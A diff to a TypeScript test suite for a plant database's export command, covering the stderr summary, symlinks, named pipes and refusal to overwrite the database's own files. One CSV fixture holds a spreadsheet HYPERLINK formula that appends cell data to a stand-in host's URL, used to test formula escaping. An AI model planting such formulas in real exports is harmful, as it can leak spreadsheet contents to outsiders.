@@ -47,19 +47,23 @@ async function exportsOf(t: Test, plants: readonly NewPlant[]) {
   await store.close()
   const args = (...args: string[]) => ['export', ...args, '--database', database]
   const write = (...using: string[]) => runHere(args(...using))
+  const summary = (target: string, count = plants.length) =>
+    `exported ${count.toLocaleString('en')} plants from ${database} to ${target}\n`
   const start = (options?: CommandOptions) => new Command(t, args(), options)
   const files = () => readdirSync(folder).filter((name) => !name.startsWith('plants.db'))
-  return { folder, database, args, write, start, files }
+  return { folder, database, args, write, summary, start, files }
 }
 
 t.test('all plants are exported, sorted by id, to standard output or a file', async (t) => {
-  const { folder, write, files } = await exportsOf(t, plants)
-  t.strictSame(await write(), { code: 0, stdout: ndjson, stderr: '' })
-  t.strictSame(await write('-', '--format', 'csv'), { code: 0, stdout: csv, stderr: '' })
+  const { folder, write, summary, files } = await exportsOf(t, plants)
+  const stderr = summary('standard output')
+  t.strictSame(await write(), { code: 0, stdout: ndjson, stderr })
+  t.strictSame(await write('-', '--format', 'csv'), { code: 0, stdout: csv, stderr })
   const target = join(folder, 'target.csv')
   writeFileSync(target, 'old')
   symlinkSync(target, join(folder, 'link.csv'))
-  t.strictSame(await write(join(folder, 'link.csv')), { code: 0, stdout: '', stderr: '' })
+  const link = join(folder, 'link.csv')
+  t.strictSame(await write(link), { code: 0, stdout: '', stderr: summary(link) })
   t.equal(readFileSync(target, 'utf8'), csv)
   t.strictSame(files(), ['link.csv', 'target.csv'])
 })
@@ -73,7 +77,7 @@ t.test('--escape-formulas makes CSV safe to open in a spreadsheet', async (t) =>
     faithful: 'id,name,tag\n-1,"=HYPERLINK(""http://x/""&A1)",@a\n',
   }
   t.match(await write('--format', 'csv', '--escape-formulas'), { code: 0, stdout: lines.safe })
-  t.match(await write(file, '--escape-formulas'), { code: 0, stderr: '' })
+  t.match(await write(file, '--escape-formulas'), { code: 0 })
   t.equal(readFileSync(file, 'utf8'), lines.safe)
   t.match(await write('--format', 'csv'), { code: 0, stdout: lines.faithful }, 'off by default')
 })
@@ -89,11 +93,11 @@ t.test('--escape-formulas is rejected for NDJSON', async (t) => {
 })
 
 t.test('a named pipe is written to, not replaced', async (t) => {
-  const { folder, write } = await exportsOf(t, plants)
+  const { folder, write, summary } = await exportsOf(t, plants)
   const pipe = join(folder, 'pipe.csv')
   spawnSync('mkfifo', [pipe])
   const [text, finished] = await Promise.all([readFile(pipe, 'utf8'), write(pipe)])
-  t.strictSame(finished, { code: 0, stdout: '', stderr: '' })
+  t.strictSame(finished, { code: 0, stdout: '', stderr: summary(pipe) })
   t.equal(text, csv)
 })
 
@@ -103,7 +107,7 @@ t.test('a target that cannot be written causes a one-line error and leaves no fi
   symlinkSync(database, link)
   const nowhere = join(folder, 'nowhere', 'x.csv')
   const cases = [
-    { args: [link], says: `cannot write ${link}: it is the database itself` },
+    { args: [link], says: `cannot write ${link}: the database uses that file` },
     { args: [folder, '--format', 'csv'], says: `cannot write ${folder}: it is a folder` },
     { args: [nowhere], says: `cannot write ${nowhere}: no such file or directory` },
   ]
@@ -112,6 +116,31 @@ t.test('a target that cannot be written causes a one-line error and leaves no fi
     t.strictSame(await write(...args), { code: 1, stdout: '', stderr })
   }
   t.strictSame(files(), ['link.csv'])
+})
+
+t.test('no file of the database is replaced, nor one that it creates later', async (t) => {
+  const { folder, database, args, files } = await exportsOf(t, plants)
+  const store = new SqliteStore({ file: database, lockTimeout: 0 })
+  t.teardown(() => store.close())
+  await store.create({ id: 5n, name: 'Acer' })
+  const alias = join(folder, 'alias.db')
+  symlinkSync(database, alias)
+  const own = ['-wal', '-shm', '-journal'].map((suffix) => database + suffix)
+  for (const [location, targets] of [
+    [database, [...own, `${database}.access-token`]],
+    [alias, [...own, `${alias}.access-token`, join(folder, 'access-token')]],
+  ] as const) {
+    for (const target of [database, ...targets, `${folder}/./plants.db-wal`]) {
+      const stderr = `plant-store: cannot write ${target}: the database uses that file\n`
+      for (const options of [[target], [join(folder, 'x.ndjson'), '--cursor', target]]) {
+        const [, ...rest] = args(...options, '--format', 'ndjson').slice(0, -1)
+        const finished = await runHere(['export', ...rest, location])
+        t.strictSame(finished, { code: 1, stdout: '', stderr }, options.join(' '))
+      }
+    }
+  }
+  t.strictSame(files(), ['alias.db'])
+  t.same(await store.get(5n), { id: 5n, name: 'Acer' })
 })
 
 t.test('a missing database is an error', async (t) => {
@@ -184,10 +213,11 @@ t.test('an export that waits for its reader can be interrupted', async (t) => {
 })
 
 t.test('--cursor writes the cursor of the export', async (t) => {
-  const { folder, database, write, files } = await exportsOf(t, plants)
+  const { folder, database, write, summary, files } = await exportsOf(t, plants)
   const [file, cursor] = [join(folder, 'plants.ndjson'), join(folder, 'plants.cursor')]
   writeFileSync(cursor, 'old')
-  t.strictSame(await write(file, '--cursor', cursor), { code: 0, stdout: '', stderr: '' })
+  const stderr = summary(file)
+  t.strictSame(await write(file, '--cursor', cursor), { code: 0, stdout: '', stderr })
   t.equal(readFileSync(file, 'utf8'), ndjson)
   const store = new SqliteStore({ file: database, lockTimeout: 0 })
   t.teardown(() => store.close())
